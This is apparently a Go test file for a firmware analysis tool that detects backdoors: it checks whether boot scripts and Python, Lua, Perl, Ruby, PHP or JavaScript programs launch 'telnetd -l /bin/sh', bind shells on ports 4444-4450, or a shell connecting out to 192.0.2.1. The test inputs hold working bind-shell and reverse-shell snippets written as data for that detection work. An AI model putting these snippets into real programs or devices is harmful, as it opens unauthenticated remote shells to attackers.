package facts

import (
	"fmt"
	"strings"
	"testing"
)

func TestReadCall(t *testing.T) {
	for _, tc := range []struct{ language, opening, text, want string }{
		{"Python", "os.system(", `"telnetd -l /bin/sh")`, "telnetd -l /bin/sh"},
		{"Python", "subprocess.run(", `["ip", "link", dev], check=True)`, "ip|link|${ARG}"},
		{"Python", "subprocess.Popen(", `['/usr/sbin/telnetd',"-l",'/bin/sh'])`, "/usr/sbin/telnetd|-l|/bin/sh"},
		{"Python", "subprocess.run(", `["telnetd"])`, "telnetd|"},
		{"Python", "subprocess.run(", `"telnetd -p 23", shell=True)`, "telnetd -p 23"},
		{"Python", "os.system(", `f"ifconfig {dev} up")`, "ifconfig ${ARG} up"},
		{"Python", "os.system(", `"ifconfig %s up" % dev)`, "ifconfig ${ARG} up"},
		{"Python", "os.system(", `"ifconfig {} up".format(dev))`, "ifconfig ${ARG} up"},
		{"Python", "os.system(", `"reboot " + how + " now")`, "reboot ${ARG} now"},
		{"Python", "os.system(", "\"telnetd \"\n  \"-l sh\")", "telnetd -l sh"},
		{"Python", "os.system(", `cmd)`, "${ARG}"},
		{"Python", "os.execv(", `"/bin/sh", "sh", "-c", "x")`, "/bin/sh|-c|x"},
		{"Python", "os.system(", `"""telnetd"""`, "telnetd"},
		{"Python", "os.system(", `)`, ""},
		{"Python", "os.execvp(", `"telnetd", ["telnetd", "-l", "/bin/sh"])`, "telnetd|-l|/bin/sh"},
		{"Lua", "os.execute(", `"telnetd -l sh")`, "telnetd -l sh"},
		{"Lua", "os.execute ", `"killall " .. name`, "killall ${ARG}"},
		{"Lua", "io.popen(", `string.format("ping -c %d %s", n, host), "r")`, "ping -c ${ARG} ${ARG}"},
		{"JavaScript", "spawn(", `'telnetd', ['-l', '/bin/sh'])`, "telnetd|-l|/bin/sh"},
		{"JavaScript", "exec(", "`ping ${host}`, cb)", "ping ${ARG}"},
		{"JavaScript", "exec(", `'telnetd', function (e) {})`, "telnetd"},
		{"Perl", " system(", `"telnetd", "-l", "/bin/sh");`, "telnetd|-l|/bin/sh"},
		{"Perl", " system ", `"ping $host";`, "ping ${ARG}"},
		{"Perl", " system ", `is what runs`, ""},
		{"PHP", " exec(", `'telnetd', $out);`, "telnetd"},
		{"PHP", " shell_exec(", `"ping -c 1 {$_GET['h']}");`, "ping -c 1 ${ARG}"},
		{"PHP", "=`", "telnetd -l $shell`;", "telnetd -l ${ARG}"},
		{"PHP", " system(", `"ping " . $host . " -c 1");`, "ping ${ARG} -c 1"},
	} {
		if got := strings.Join(readCall(tc.language, tc.opening, tc.text), "|"); got != tc.want {
			t.Errorf("%s %s%s: %q, want %q", tc.language, tc.opening, tc.text, got, tc.want)
		}
	}
}

func TestBootOfOtherLanguages(t *testing.T) {
	files := func(name, program string, more ...string) map[string]string {
		m := map[string]string{
			"etc/inittab": toRcS, "etc/init.d/rcS": "#!/bin/sh\n" + name + " &\n", "opt/app/main": program,
			"usr/sbin/telnetd": "-> ../../bin/busybox", "usr/bin/python3": "", "usr/bin/lua": "", "usr/bin/node": "", "usr/bin/php": "", "usr/bin/perl": "", "sbin/ip": "",
		}
		for i := 0; i < len(more); i += 2 {
			m[more[i]] = more[i+1]
		}
		return m
	}
	for _, tc := range []struct {
		name     string
		files    map[string]string
		want     string
		unjudged int
	}{
		{"Python", files("/opt/app/main", "#!/usr/bin/python3\nimport os\nos.system(\"telnetd -l /bin/sh\")\n"), "main telnetd?", 0},
		{"by its interpreter", files("python3 /opt/app/main", "import os\nos.system(\"telnetd -l /bin/sh\")\n"), "python3 telnetd?", 0},
		{"a list", files("/opt/app/main", "#!/usr/bin/python3\nimport subprocess\nsubprocess.Popen([\"/usr/sbin/telnetd\",\"-l\",\"/bin/sh\"])\n"), "main telnetd?", 0},
		{"a comment", files("/opt/app/main", "#!/usr/bin/python3\n# os.system(\"telnetd -l /bin/sh\")\n"), "main", 0},
		{"a known program with unknown words", files("/opt/app/main", "#!/usr/bin/python3\nsubprocess.run([\"ip\", \"link\", dev])\n"), "main", 0},
		{"nothing that is known", files("/opt/app/main", "#!/usr/bin/python3\nos.system(cmd)\n"), "main", 1},
		{"no call at all", files("/opt/app/main", "#!/usr/bin/python3\nprint('system')\n"), "main", 0},
		{"a part of its own", files("/opt/app/main", "#!/usr/bin/python3\nfrom shell import go\n", "opt/app/shell.py", "import os\nos.system('telnetd')\n"), "main telnetd?", 0},
		{"Lua", files("lua /opt/app/main", "os.execute('telnetd -l /bin/sh')\n"), "lua telnetd?", 0},
		{"Perl", files("/opt/app/main", "#!/usr/bin/perl\nsystem('telnetd', '-l', '/bin/sh');\n"), "main telnetd?", 0},
		{"words of a manual", files("/opt/app/main", "#!/usr/bin/perl\nprint 1;\n__END__\n system($x) or exec it\n"), "main", 0},
		{"PHP", files("php /opt/app/main", "<?php shell_exec('telnetd');\n"), "php telnetd?", 0},
		{"JavaScript", files("node /opt/app/main", "const { exec } = require('child_process');\nexec('telnetd');\n"), "node telnetd?", 0},
		{"Perl, bare words", files("perl /opt/app/main", "exec qw(telnetd -l /bin/sh);\n"), "perl telnetd?", 0},
		{"Perl, a pipe", files("perl /opt/app/main", "open(my $f, '-|', 'telnetd -l /bin/sh');\n"), "perl telnetd?", 0},
		{"Perl, a file", files("perl /opt/app/main", "open(my $f, '<', 'telnetd');\n"), "perl", 0},
		{"Ruby, bare words", files("ruby /opt/app/main", "exec(*%w[telnetd -l /bin/sh])\n", "usr/bin/ruby", ""), "ruby telnetd?", 0},
		{"Ruby, of its module", files("ruby /opt/app/main", "Process.spawn('telnetd', '-l', '/bin/sh')\n", "usr/bin/ruby", ""), "ruby telnetd?", 0},
		{"PHP, exec", files("php /opt/app/main", "<?php pcntl_exec('/usr/sbin/telnetd', ['-l', '/bin/sh']);\n"), "php telnetd?", 0},
		{"JavaScript, renamed", files("node /opt/app/main", "const {spawnSync:s}=require(\"child_process\"); s(\"telnetd\",[\"-l\",\"/bin/sh\"]);\n"), "node telnetd?", 0},
		{"JavaScript, imported", files("node /opt/app/main", "import { exec as run } from 'node:child_process';\nrun('telnetd');\n"), "node telnetd?", 0},
		{"JavaScript, the module renamed", files("node /opt/app/main", "const c = require('child_process');\nc.execFile('telnetd', ['-p', '23']);\n"), "node telnetd?", 0},
		{"JavaScript, a function kept", files("node /opt/app/main", "const c = require('child_process');\nconst run = util.promisify(c.exec);\nrun('telnetd');\n"), "node telnetd?", 0},
		{"JavaScript, another function", files("node /opt/app/main", "const { fork: s } = require('child_process');\ns('telnetd');\n"), "node", 0},
		{"JavaScript, another module", files("node /opt/app/main", "require('child_process'); const { exec: s } = require('./db');\ns('telnetd');\n"), "node", 0},
		{"Python, renamed", files("python3 /opt/app/main", "from os import system as s, path\ns('telnetd')\n"), "python3 telnetd?", 0},
		{"Python, imported", files("python3 /opt/app/main", "from subprocess import run, PIPE\nrun(['telnetd', '-l', '/bin/sh'])\n"), "python3 telnetd?", 0},
		{"Python, the module renamed", files("python3 /opt/app/main", "import subprocess as p\np.Popen(['telnetd', '-l', '/bin/sh'])\n"), "python3 telnetd?", 0},
		{"Python, another module", files("python3 /opt/app/main", "from app import run\nrun(['telnetd'])\n"), "python3", 0},
		{"Python, by a list with its own name", files("python3 /opt/app/main", "os.execvp('telnetd', ['telnetd', '-l', '/bin/sh'])\n"), "python3 telnetd?", 0},
		{"Ruby, marks of a command", files("ruby /opt/app/main", "`telnetd -l /bin/sh`\n", "usr/bin/ruby", ""), "ruby telnetd?", 0},
		{"Python, by a terminal", files("python3 /opt/app/main", "pexpect.spawn('telnetd -l /bin/sh')\n"), "python3 telnetd?", 0},
		{"Lua, kept", files("lua /opt/app/main", "local e = os.execute\ne('telnetd -l /bin/sh')\n"), "lua telnetd?", 0},
		{"a regular expression", files("node /opt/app/main", "const cp = require('child_process');\nconst m = /x/.exec(line);\n"), "node", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := bootOf(t, tc.files)
			if got := started(g); got != tc.want {
				t.Errorf("started %q, want %q", got, tc.want)
			}
			if got := len(g.Inits[0].Unjudged); got != tc.unjudged {
				t.Errorf("%d commands are not known, want %d: %v", got, tc.unjudged, g.Inits[0].Unjudged)
			}
		})
	}
}

// TestNoCode: what comments, documentation and printed texts say does not run; what stands
// beside them does.
func TestNoCode(t *testing.T) {
	for by, programs := range map[string]map[string]bool{
		"python3": {
			"\"\"\"\nos.system('telnetd -l /bin/sh')\n\"\"\"\nimport os\n":                       false,
			"def f():\n    \"\"\"Example:\n    >>> os.system('telnetd')\n    \"\"\"\n    pass\n": false,
			"HELP = \"\"\"\n  os.system('telnetd -l /bin/sh')\n\"\"\"\nprint(HELP)\n":            false,
			"x = 1 # os.system('telnetd')\n":                                                     false,
			"print('os.system(\"telnetd\")')\n":                                                  false,
			"x = '# no comment'; os.system('telnetd')\n":                                         true,
			"\"\"\"manual\"\"\"\nos.system('telnetd')\n":                                         true,
			"CODE = \"\"\"\nos.system('telnetd')\n\"\"\"\nexec(CODE)\n":                          true,
			"os.system(\"\"\"telnetd\"\"\")\n":                                                   true,
		},
		"lua": {
			"--[[\nos.execute('telnetd')\n]]\nprint(1)\n":       false,
			"--[==[ ]] os.execute('telnetd')\n]==]\nprint(1)\n": false,
			"print [[ os.execute('telnetd') ]]\n":               false,
			"x = 1 -- os.execute('telnetd')\n":                  false,
			"x = '--[['; os.execute('telnetd')\n":               true,
		},
		"perl": {
			"print 1;\n=pod\n\n system('telnetd');\n\n=cut\nprint 2;\n": false,
			"print 1;\n__END__\n system('telnetd');\n":                  false,
			"print <<EOT;\n system('telnetd');\nEOT\n":                  false,
			"=pod\n\n x\n\n=cut\n system('telnetd');\n":                 true,
			"print <<EOT;\n x\nEOT\n system('telnetd');\n":              true,
			"eval <<EOT;\n system('telnetd');\nEOT\n":                   true,
		},
		"ruby": {
			"puts 1\n=begin\nsystem('telnetd')\n=end\n": false,
			"puts <<~EOT\n  system('telnetd')\n  EOT\n": false,
			"=begin\nx\n=end\nsystem('telnetd')\n":      true,
		},
		"php": {
			"<?php\n/*\n system('telnetd');\n*/\n$s=1;":                    false,
			"<?php $a=1; // system('telnetd');\n":                          false,
			"<b> system('telnetd') </b><?php echo 1; ?> system('telnetd')": false,
			"<?php echo \"\n system('telnetd');\n\";":                      false,
			"<?php echo <<<EOT\n system('telnetd');\nEOT;\n":               false,
			"<?php $u='http://x'; system('telnetd');":                      true,
			"<?php // x ?><?php system('telnetd');":                        true,
			"<?php $s='?>'; system('telnetd');":                            true,
		},
		"node": {
			"const cp=require('child_process');\n/*\n cp.exec('telnetd')\n*/\n":            false,
			"const cp=require('child_process');\nx=1; // cp.exec('telnetd')\n":             false,
			"const cp=require('child_process');\nlog(\"cp.exec('telnetd')\")\n":            false,
			"const cp=require('child_process');x.replace(/\"/g,'');cp.exec(\"telnetd\")\n": true,
			"const cp=require('child_process');x.replace(/\\//g,'');cp.exec('telnetd')\n":  true,
		},
	} {
		for program, want := range programs {
			g := bootOf(t, map[string]string{
				"etc/inittab": toRcS, "etc/init.d/rcS": "#!/bin/sh\n" + by + " /opt/main\n", "opt/main": program, "usr/bin/" + by: "", "usr/sbin/telnetd": "-> ../../bin/busybox",
			})
			if got := strings.Contains(started(g), "telnetd"); got != want {
				t.Errorf("%s %q: %t", by, program, got)
			}
		}
	}
}

func FuzzCodeOf(f *testing.F) {
	f.Add("PHP", "<?php /* ?> */ \"a\n\" <<<X\nX; // ?> b")
	f.Add("JavaScript", "/[/]/ + 'a' /* */ // b")
	f.Add("JavaScript", "`a ${f({b: `${c}`})} // d` + e // g `${`")
	f.Add("Ruby", "=begin\n=end\n<<~A\nA\n__END__")
	f.Fuzz(func(t *testing.T, language, text string) {
		if got := codeOf(language, text); len(got.text) != len(text) || strings.Count(got.text, "\n") != strings.Count(text, "\n") {
			t.Errorf("%q", got.text)
		}
	})
}

func FuzzReadCall(f *testing.F) {
	f.Add("Python", "os.system(", `f"a {b}" + c % ("x")`)
	f.Add("PHP", "=`", "a {$b['c']} $$d`")
	f.Add("JavaScript", "spawn(", "`${a")
	f.Fuzz(func(t *testing.T, language, opening, text string) {
		if len(text) > maxCallText {
			return
		}
		if words := readCall(language, opening, text); len(words) > maxCallWords+1 {
			t.Errorf("%d words", len(words))
		}
	})
}

func TestBootShellsOfOtherLanguages(t *testing.T) {
	for _, tc := range []struct {
		name, by, program, want string
	}{
		{"Python", "python3", "import pty, socket, os\ns=socket.socket(); s.bind((\"0.0.0.0\",4444)); s.listen(1)\nc,a=s.accept()\nfor f in (0,1,2): os.dup2(c.fileno(),f)\npty.spawn(\"/bin/sh\")\n", "shell 4444"},
		{"Python, by a list", "python3", "s.bind(('', 4445))\nc,a=s.accept()\nsubprocess.call(['/bin/sh','-i'], stdin=c, stdout=c)\n", "shell 4445"},
		{"Python, replaced", "python3", "s.bind(('', 4446))\nos.dup2(c.fileno(),0)\nos.execv('/bin/sh', ['/bin/sh'])\n", "shell 4446"},
		{"Python, from the device alone", "python3", "s.bind(('127.0.0.1',4444))\nos.dup2(c.fileno(),0)\npty.spawn('/bin/sh')\n", ""},
		{"Python, outward", "python3", "s.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n", "away"},
		{"Python, a page with a terminal", "python3", "app.run(host='0.0.0.0')\npty.spawn('/bin/sh')\n", "main waits for connections and starts a shell"},
		{"Python, a login", "python3", "s.bind(('',4444))\nos.dup2(c.fileno(),0)\npty.spawn('/bin/login')\n", ""},
		{"Python, a script", "python3", "s.bind(('',4444))\nos.dup2(c.fileno(),0)\nos.system('/bin/sh /etc/x.sh')\n", ""},
		{"Python, a line", "python3", "s.bind(('',4444))\nsubprocess.run(['sh','-c','date'], stdin=None)\n", ""},
		{"JavaScript", "node", "const cp=require('child_process');\nnet.createServer(c=>{const s=cp.spawn('/bin/sh',[]);c.pipe(s.stdin);s.stdout.pipe(c)}).listen(4447);\n", "shell 4447"},
		{"JavaScript, from the device alone", "node", "const cp=require('child_process');\nnet.createServer(c=>{const s=cp.spawn('/bin/sh',[]);c.pipe(s.stdin)}).listen(4447, '127.0.0.1');\n", ""},
		{"Perl", "perl", "$s=IO::Socket::INET->new(LocalPort=>4448,Listen=>1);\n$c=$s->accept; open(STDIN,'<&',$c);\nexec '/bin/sh';\n", "shell 4448"},
		{"Ruby", "ruby", "s=TCPServer.new(4449)\nc=s.accept\nexec('/bin/sh', :in=>c, :out=>c)\n", "shell 4449"},
		{"PHP", "php", "<?php $s=stream_socket_server('tcp://0.0.0.0:4450'); $c=stream_socket_accept($s);\nproc_open('/bin/sh', [$c,$c,$c], $p);\n", "shell 4450"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := bootOf(t, map[string]string{
				"etc/inittab": toRcS, "etc/init.d/rcS": "#!/bin/sh\n" + tc.by + " /opt/app/main &\n", "opt/app/main": tc.program, "usr/bin/" + tc.by: "",
				"bin/sh": "-> busybox", "bin/login": "-> busybox", "etc/x.sh": "#!/bin/sh\ndate\n", "bin/date": "-> busybox",
			})
			got := ""
			for _, s := range g.Services {
				if s.Shell && s.Reachable() && s.Anonymous == Yes && len(s.Listens) == 1 {
					got += fmt.Sprintf("shell %d", s.Listens[0].Port)
				}
			}
			if len(g.Outward) > 0 {
				got += "away"
			}
			for _, u := range g.Inits[0].Unjudged {
				got += u.Reason
			}
			if got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}
